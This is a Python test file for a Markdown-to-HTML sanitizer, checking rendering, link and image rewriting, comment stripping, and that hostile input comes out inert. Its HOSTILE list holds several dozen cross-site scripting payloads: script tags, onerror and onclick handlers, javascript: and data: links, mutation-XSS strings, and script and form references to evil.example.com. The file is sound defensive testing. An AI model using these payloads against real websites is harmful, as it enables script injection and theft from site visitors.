"""Public Markdown becomes HTML that can do no harm, and keeps its words."""

from __future__ import annotations

import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from faultless.outputs.links import from_anywhere, from_page
from faultless.public.markdown import TAGS, plain, render
from faultless.public.words import one_line, storable, without_comments

ASSETS = frozenset({"x.png", "a b.png", "r.pdf", "pictures/y.svg"})
VOID = {"br", "hr", "img"}


class Outline(HTMLParser):
    """The tags, addresses and words of some HTML; notes what is not well nested."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.words = ""
        self.wrong: list[str] = []
        self.feed(html)
        self.close()
        self.wrong += self.open

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"/{tag}")

    def handle_data(self, data):
        self.words += data

    def handle_comment(self, data):
        self.wrong.append(f"<!-- {data}")

    def handle_decl(self, decl):
        self.wrong.append(f"<!{decl}")

    def handle_pi(self, data):
        self.wrong.append(f"<?{data}")


def harmless(html: str) -> Outline:
    outline = Outline(html)
    assert outline.wrong == []
    for tag, attributes in outline.tags:
        assert tag in TAGS
        assert not {name for name in attributes if name.startswith("on") or name in {"style", "class", "id"}}
        if tag == "a":
            assert re.match(r"https?://|mailto:|/assets/", attributes["href"] or "", re.IGNORECASE)
            assert attributes["rel"] == "noopener noreferrer"
        if tag == "img":
            assert (attributes["src"] or "").startswith("/assets/")
            assert attributes["alt"] is not None
    return outline


def show(text: str, **options) -> str:
    return render(text, assets=ASSETS, **options)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("*a* **b** `c` ~~d~~", "<p><em>a</em> <strong>b</strong> <code>c</code> <s>d</s></p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("# a\n\n### b\n\n###### c", "<h4>a</h4>\n<h4>b</h4>\n<h6>c</h6>"),
        ("a  \nb", "<p>a<br>\nb</p>"),
        ("---", "<hr>"),
        ("    <b>", "<pre><code>&lt;b&gt;\n</code></pre>"),
        ("", ""),
    ],
)
def test_markdown_is_rendered(text, html):
    assert show(text) == html


def test_a_table_is_rendered_and_reads_as_lines():
    html = show("| a | b |\n|---|---|\n| 1 | 2 |")
    assert [tag for tag, _ in harmless(html).tags] == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]
    assert plain(html) == "a b\n1 2"


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example.com/x.js></SCRIPT>",
    "<iframe src=https://evil.example.com></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1) style='position:fixed'>x</p>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=https://evil.example.com><input name=x><button>go</button></form>",
    "<object data=x></object><embed src=x><applet></applet>",
    "<link rel=stylesheet href=https://evil.example.com/x.css><meta http-equiv=refresh content=0><base href=//evil.example.com>",
    "<style>* {background: url(https://evil.example.com)}</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<a href=https://a.example.com><table><td><a href=/b>b</a></td></table></a>",
    "<!-- x --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "<video src=x autoplay></video><audio src=x></audio><source src=x>",
    "[x](javascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:x) [x](data:text/html;base64,PHNjcmlwdD4=) [x](file:///etc/passwd)",
    "![x](https://tracker.example.com/x.gif)",
    "![x](//tracker.example.com/x.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](x.png?https://tracker.example.com)",
    "![x](../../etc/x.png)",
    '![x" onerror="alert(1)](public/x.png \'y" onerror="alert(1)\')',
    "[x](https://example.com \"y' onclick='alert(1)\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "[x](/\\evil.example.com)",
    "[x](//evil.example.com)",
    "`<script>`",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("imported", [False, True])
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert(text, imported):
    for written in (text, f"Words {text} words", f"- {text}", f"| a |\n|---|\n| {text} |", f"> {text}", f"# {text}"):
        harmless(show(written, imported=imported))


@given(
    st.lists(
        st.sampled_from(
            [
                *HOSTILE,
                "<a href=",
                ">",
                '"',
                "'",
                "<",
                "</a>",
                "](",
                ")",
                "[",
                "![",
                "<!--",
                "-->",
                "\n",
                " x ",
                "`",
                "public/x.png",
            ]
        ),
        max_size=8,
    ),
    st.booleans(),
)
def test_no_mixture_of_hostile_pieces_is_harmful(pieces, imported):
    harmless(show("".join(pieces), imported=imported))


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=80), st.booleans())
def test_any_text_is_rendered_harmlessly_and_can_be_stored(text, imported):
    html = show(text, imported=imported)
    harmless(html)
    assert html == storable(html)


@given(st.text(alphabet=st.characters(codec="utf-8", categories=["L", "N", "P", "S", "Zs"]), max_size=60))
def test_raw_html_of_a_native_record_shows_as_the_text_it_is(text):
    written = f"<b>{text.replace('<!--', '')}"
    assert "<b>" in plain(show(written)) or without_comments(written) != written


def test_raw_html_of_an_imported_record_is_dropped_and_its_text_kept():
    text = "<div class=x>One</div> <font color=red>two</font> <details><summary>three</summary> four</details> <object>five</object>"
    assert plain(show(text, imported=True)).split() == ["One", "two", "three", "four", "five"]
    assert show("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>"


def test_what_holds_no_words_for_readers_is_dropped_whole():
    text = "a <script>x</script><style>x</style><iframe>x</iframe><noscript>x</noscript> b"
    assert plain(show(text, imported=True)) == "a b"


@pytest.mark.parametrize(
    "written",
    [
        "public/x.png",
        "../public/x.png",
        "../../public/x.png",
        "/public/x.png",
        "./x.png",
        "x.png",
        "assets/x.png",
        "/assets/x.png",
    ],
)
def test_an_image_of_content_public_is_shown_however_its_path_is_written(written):
    html = show(f"![A picture]({written} 'A title')")
    assert html == '<p><img src="/assets/x.png" alt="A picture" title="A title"></p>'
    assert plain(html) == "A picture"


def test_an_image_with_a_space_in_its_name_is_shown():
    assert 'src="/assets/a%20b.png"' in show("![y](<public/a b.png>)")
    assert 'src="/assets/a%20b.png"' in show("![y](public/a%20b.png)")


@pytest.mark.parametrize(
    "address",
    [
        "y.png",
        "../incidents/x.png",
        "public/y.png",
        "https://example.com/public/x.png",
        "https://example.com/x.png",
        "//example.com/x.png",
        "data:image/png;base64,AA",
    ],
)
def test_an_image_from_anywhere_else_is_its_words(address):
    assert show(f"![A picture]({address})") == "<p>A picture</p>"
    assert plain(show(f"![]({address})")) == ""


def test_an_imported_image_without_an_address_is_its_words():
    assert show('<p><img alt="A picture"> <img></p>', imported=True) == "<p>A picture </p>"


@pytest.mark.parametrize(
    "address", ["../postmortems/x.md", "/handbook/", "x.md", "#part", "?x", "ftp://example.com/x", "tel:123", "y.pdf"]
)
def test_a_link_that_leads_inside_or_nowhere_is_its_words(address):
    assert show(f"[Our words]({address})") == "<p>Our words</p>"


def test_links_lead_to_the_web_to_mail_and_to_files_of_the_site():
    html = show(
        "[a](https://example.com/?a=1&b=2) [b](mailto:a@example.com) [c](public/r.pdf) [d](HTTPS://EXAMPLE.COM)"
    )
    assert [attributes["href"] for tag, attributes in harmless(html).tags if tag == "a"] == [
        "https://example.com/?a=1&b=2",
        "mailto:a@example.com",
        "/assets/r.pdf",
        "HTTPS://EXAMPLE.COM",
    ]


@pytest.mark.parametrize(
    ("text", "addresses"),
    [
        ("see https://example.com/a_b_c.", ["https://example.com/a_b_c"]),
        ("(https://example.com/x_(y)), https://example.com?", ["https://example.com/x_(y)", "https://example.com"]),
        ("https://example.com/?a=1&amp;b=2", ["https://example.com/?a=1&b=2"]),
        ("*https://example.com/x*", ["https://example.com/x"]),
        ("`https://example.com`", []),
        ("[https://example.com/x](https://example.com/y)", ["https://example.com/y"]),
        ("ftp://example.com http:// x://y", []),
    ],
)
def test_a_bare_web_address_is_a_link(text, addresses):
    assert [attributes["href"] for tag, attributes in harmless(show(text)).tags if tag == "a"] == addresses


def test_an_imported_link_whose_words_are_an_address_is_one_link():
    html = show('<a href="https://example.com/x">https://example.com/x</a> https://example.com/y', imported=True)
    assert re.findall(r'<a href="([^"]*)"[^>]*>([^<]*)</a>', html) == [
        ("https://example.com/x", "https://example.com/x"),
        ("https://example.com/y", "https://example.com/y"),
    ]


@pytest.mark.parametrize("name", ["&#12;", "&#x1;", "&#xFFFE;", "&#x85;"])
def test_no_character_reference_smuggles_in_what_a_feed_cannot_hold(name):
    for imported in (False, True):
        for text in (f"a{name}b", f"<p>a{name}b</p>", f"`a{name}b`"):
            html = show(text, imported=imported)
            assert html == storable(html)


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("a <!-- b --> c", "a  c"),
        ("a <!-- b\nc --> d", "a  d"),
        ("a\n<!-- b\nc", "a\n"),
        ("  <!-- b", ""),
        ("a <!-- b", "a <!-- b"),
        ("`<!-- b -->`", "``"),
        ("a <!--> b --> c", "a  c"),
        ("plain", "plain"),
    ],
)
def test_comments_are_removed(text, kept):
    assert without_comments(text) == kept


def test_one_line_has_single_spaces_and_nothing_a_feed_cannot_hold():
    assert one_line(" a\n\tb\u00a0\u2028c <!-- d --> \x07e\x00 ") == "a b c e"


def test_plain_text_has_a_line_for_each_block_and_no_mark_up():
    html = show("# Head\n\nOne *two*\nthree &lt;b&gt;\n\n- a\n  - c\n- b\n\n> q\n\n```\ncode\nmore\n```\n\nx\\\ny")
    assert plain(html) == "Head\nOne two three <b>\na\nc\nb\nq\ncode\nmore\nx\ny"


def test_addresses_of_the_site_are_brought_to_where_the_text_stands():
    html = '<p><a href="/incidents/x/" rel="y">x</a> <img alt="/z" src="/assets/x.png" title="/t"> <a href="https://example.com/">y</a></p>'
    assert from_page(html, "../../") == html.replace('"/incidents/x/"', '"../../incidents/x/index.html"').replace(
        '"/assets/', '"../../assets/'
    )
    assert from_anywhere(html, "https://status.example.com/s/") == html.replace(
        'href="/incidents', 'href="https://status.example.com/s/incidents'
    ).replace('src="/assets', 'src="https://status.example.com/s/assets')


MESSAGES = Path(os.environ.get("FAULTLESS_CORPORA") or "nowhere", "statuspage", "github-incidents-complete.jsonl")


@pytest.mark.skipif(not MESSAGES.is_file(), reason="FAULTLESS_CORPORA does not name the folder of real data")
def test_no_word_of_thousands_of_real_updates_is_lost():
    """Words of letters alone, so that what Markdown itself takes away does not count."""
    rows = [json.loads(line) for line in MESSAGES.read_text(encoding="utf-8").splitlines()]
    messages = [update["message"] for row in rows for update in row["updates"]]
    assert len(messages) > 4000
    for message in messages:
        html = show(message)
        outline = harmless(html)
        said = " ".join((outline.words, *(attributes.get("href") or "" for _, attributes in outline.tags)))
        assert [word for word in re.findall(r"(?<![\w&])[A-Za-z]{3,}(?!\w)", message) if word not in said] == []
